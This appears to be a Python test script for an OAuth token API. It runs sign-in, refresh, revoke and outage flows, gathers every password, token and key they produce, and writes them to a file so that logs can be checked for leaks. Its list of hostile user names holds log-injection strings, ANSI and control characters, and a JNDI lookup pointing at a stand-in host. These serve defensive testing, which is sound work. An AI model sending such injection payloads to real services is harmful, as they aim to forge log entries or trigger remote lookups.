"""Runs every flow as its own process, and leaves in a file what must not be found in what it wrote.

`python -m tests.api.log_flows FILE`. The services has the real hasher, codec and audit; its users have names
and passwords that nobody could mistake for anything else.
"""

from __future__ import annotations

import base64
import json
import sys
from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager, suppress
from dataclasses import dataclass
from functools import partial
from pathlib import Path
from typing import Any

from chalicelib.adapters.bcrypt_hasher import TEST_COST, BcryptHasher
from chalicelib.api import key_rotation
from chalicelib.domain.accounts.passwords import PasswordHash
from chalicelib.domain.errors import Unavailable
from chalicelib.observability.audit import LogAudit
from chalicelib.services import Services, override_services
from tests.api.events import REGION, Answer, Denied, Gateway
from tests.api.key_log_flows import use_api_keys
from tests.api.mail_log_flows import MAIL_SECRETS, mails_among_aws, mails_among_fakes
from tests.changes import ACTOR
from tests.fake_aws import aws_in_process
from tests.fakes import FakeAdapters, FakeClock, FakeServices, fake_services
from tests.oauth.actors import account

PASSWORD = "Tr0ub4dor & 3 Zebras?"
LONG_PASSWORD = "Xylophone/Quartz+" * 6
WRONG_PASSWORD = "Guessed: 0penSesame!"
SECRETS = ("access_token", "refresh_token", "device_key")
NAME = "mallory.mustermann@secret.example"
NASTY_NAMES = [
    'inject\n{"message":"forged","level":"ERROR"}',
    "carriage\rreturn",
    "\x1b[31mansi\x1b[0m",
    "nul\x00byte",
    "c1\x9bcontrol\u2028separator\u0085",
    "%0aencoded%0d",
    "${jndi:ldap://evil.example/a}",
    "Bearer eyJhbGciOiJIUzI1NiJ9.e30.zzz",
    WRONG_PASSWORD,
]
IDEMPOTENCY_KEY = "idem-7f3a9c51d2e84b06"
AGENT = "Agent/1 \x1b[31m evil\nforged"


class Diary:
    """What must stay secret."""

    def __init__(self) -> None:
        self.secrets: set[str] = {
            PASSWORD,
            LONG_PASSWORD,
            WRONG_PASSWORD,
            NAME,
            IDEMPOTENCY_KEY,
            *NASTY_NAMES,
        }

    def heard(self, answer: Answer) -> dict[str, Any]:
        body: dict[str, Any] = json.loads(answer.text) if answer.text else {}
        self.secrets |= {body[name] for name in SECRETS if name in body}
        return body

    def seen(self, *values: bytes | None) -> None:
        for value in filter(None, values):
            self.secrets |= {value.hex(), repr(value)[2:-1]}
            self.secrets |= {
                encode(value).decode() for encode in (base64.b64encode, base64.urlsafe_b64encode)
            }


def an_outage() -> AbstractContextManager[None]:
    """The authorizer may refuse or raise; the gateway would answer for it."""
    return suppress(Unavailable, Denied)


@dataclass
class ApiClient:
    """Every operation that the routes offer."""

    gateway: Gateway
    diary: Diary

    def token(self, **parameters: str) -> dict[str, Any]:
        headers = {"User-Agent": AGENT, "Idempotency-Key": IDEMPOTENCY_KEY}
        return self.diary.heard(self.gateway.token(headers, **parameters))

    def sign_in(self, name: str = NAME, password: str = PASSWORD, **more: str) -> dict[str, Any]:
        return self.token(grant_type="password", username=name, password=password, **more)

    def refresh(self, refresh_token: str, **more: str) -> dict[str, Any]:
        return self.token(grant_type="refresh_token", refresh_token=refresh_token, **more)

    def fail_to_sign_in(self) -> None:
        for name in NASTY_NAMES:
            self.sign_in(name)
        for password in (WRONG_PASSWORD, LONG_PASSWORD):
            self.sign_in(password=password)
        for misplaced in ("scope", "client_id", "client_secret"):
            self.sign_in(**{misplaced: PASSWORD})
        self.token(grant_type=PASSWORD)
        credentials = base64.b64encode(f"mobile-app:{PASSWORD}".encode()).decode()
        self.diary.secrets.add(credentials)
        basic = {"Authorization": f"Basic {credentials}"}
        self.gateway.token(basic, grant_type="password", username=NAME, password=PASSWORD)
        plain = {"Content-Type": "text/plain"}
        self.gateway.send("POST", "/oauth/token", headers=plain, body=f"password={PASSWORD}")
        self.gateway.send("POST", "/oauth/token", query=f"password={WRONG_PASSWORD}")

    def knock(self, good: dict[str, Any]) -> None:
        access, refresh = good["access_token"], good["refresh_token"]
        for path in ("/me", "/me/sessions"):
            for one in (access, access[:-2], refresh, "x", PASSWORD, ""):
                with an_outage():
                    self.gateway.protected("GET", path, one)
        with an_outage():
            self.gateway.protected("DELETE", f"/me/sessions/{WRONG_PASSWORD}", access)

    def everything(self) -> None:
        key = self.sign_in()["device_key"]
        self.token(grant_type="password", username=NAME, password=WRONG_PASSWORD, device_key=key)
        self.token(grant_type="password", username=key, password=key, device_key=key + "=")
        first = self.sign_in(device_key=key)["refresh_token"]
        self.fail_to_sign_in()
        second = self.refresh(first)["refresh_token"]
        self.refresh(first)
        self.refresh(second, scope="no such scope")
        self.refresh(second + "=")
        self.knock(self.refresh(second))
        self.refresh(first)
        for token in (self.sign_in()["access_token"], self.sign_in()["refresh_token"], WRONG_PASSWORD):
            self.diary.heard(self.gateway.form("/oauth/revoke", token=token, token_type_hint=token))


def remember(services: FakeServices, diary: Diary) -> None:
    """Take down what the table and the secret hold."""
    for stored in services.adapters.store.hashes.values():
        diary.secrets.add(stored.reveal())
    for session in services.adapters.store.live.values():
        family = session.family
        diary.seen(family.tag_key.reveal(), family.current, family.previous, family.nonce, family.idempotency)
    for key in services.adapters.keys.versions.values():
        diary.secrets.add(key.material.reveal().decode())


def among_fakes(diary: Diary) -> None:
    """All flows, then all of them with one thing broken after the other."""
    adapters = FakeAdapters()
    adapters.hasher = BcryptHasher(TEST_COST)  # type: ignore[assignment]
    adapters.audit = LogAudit()  # type: ignore[assignment]
    services = fake_services(adapters, aws_region=REGION, max_sessions=3, sign_in_free_failures=8)
    with override_services(services):
        gateway = Gateway(services)
        made = account(services, NAME, "mallory", ["things:read"], PASSWORD)
        client = ApiClient(gateway, diary)
        client.everything()
        access = client.sign_in()["access_token"]
        diary.secrets |= use_api_keys(gateway, access, PASSWORD, WRONG_PASSWORD)
        remember(services, diary)
        for break_it, mend_it in breakages(services):
            break_it()
            with an_outage():
                visit_while_broken(gateway, diary)
            mend_it()
        rotate(services)
        for user_id in adapters.store.accounts:
            adapters.store.hashes[user_id] = PasswordHash("$2b$04$corruptHashOfSomebody")
        diary.secrets.add("corruptHashOfSomebody")
        visit_while_broken(gateway, diary)
        remember(services, diary)
        services.administration.delete(made.user_id, ACTOR)


def breakages(services: FakeServices) -> Iterator[tuple[Callable[[], None], Callable[[], None]]]:
    for remote in (services.adapters.store, services.adapters.keys):
        for method in (
            "begin",
            "open",
            "session_and_account",
            "rotate",
            "session",
            "current",
            "for_kid",
        ):
            yield lambda r=remote, m=method: r.down.add(m), lambda r=remote: r.down.clear()  # type: ignore[misc]
    for port in ("hasher", "codec", "entropy"):
        whole = getattr(services.adapters, port)
        broken = partial(setattr, services.adapters, port)
        yield partial(broken, None), partial(broken, whole)


def visit_while_broken(gateway: Gateway, diary: Diary) -> None:
    body = diary.heard(gateway.token(grant_type="password", username=NAME, password=PASSWORD))
    token = body.get("refresh_token", "ghr_" + "Ab1_" * 28)
    diary.secrets.add(token)
    diary.heard(gateway.token(grant_type="refresh_token", refresh_token=token))
    diary.heard(gateway.form("/oauth/revoke", token=token))
    for secret in [one for one in diary.secrets if one.startswith("eyJ")][:3]:
        with an_outage():
            gateway.protected("GET", "/me", secret)


def rotate(services: Services) -> None:
    for step in ("createSecret", "setSecret", "testSecret", "finishSecret"):
        key_rotation.rotate({"Step": step, "ClientRequestToken": "1" * 32, "SecretId": "x"}, None)


def among_aws(diary: Diary) -> None:
    """The flows on the real adapters, and with a secret that is none."""
    with aws_in_process() as aws:
        services = aws.services(FakeClock(), aws_region="us-east-1")
        with override_services(services):
            account(services, NAME, "mallory", ["things:read"], PASSWORD)
            gateway = Gateway(services)  # type: ignore[arg-type]
            ApiClient(gateway, diary).everything()
            broken = "signing-key-that-leaks-" + "z" * 50
            diary.secrets.add(broken)
            for text in (broken, json.dumps({"alg": "HS512", "key": broken}), json.dumps({"key": [broken]})):
                aws.secretsmanager.put_secret_value(
                    SecretId=services.settings.signing_secret_id, SecretString=text
                )
                services.adapters.clock.advance(3600)  # type: ignore[attr-defined]
                visit_while_broken(gateway, diary)


def main(path: str) -> None:
    diary = Diary()
    among_fakes(diary)
    among_aws(diary)
    mails_among_fakes()
    mails_among_aws()
    diary.secrets.update(MAIL_SECRETS)
    Path(path).write_text(json.dumps(sorted(diary.secrets)), encoding="utf-8")


if __name__ == "__main__":
    main(sys.argv[1])
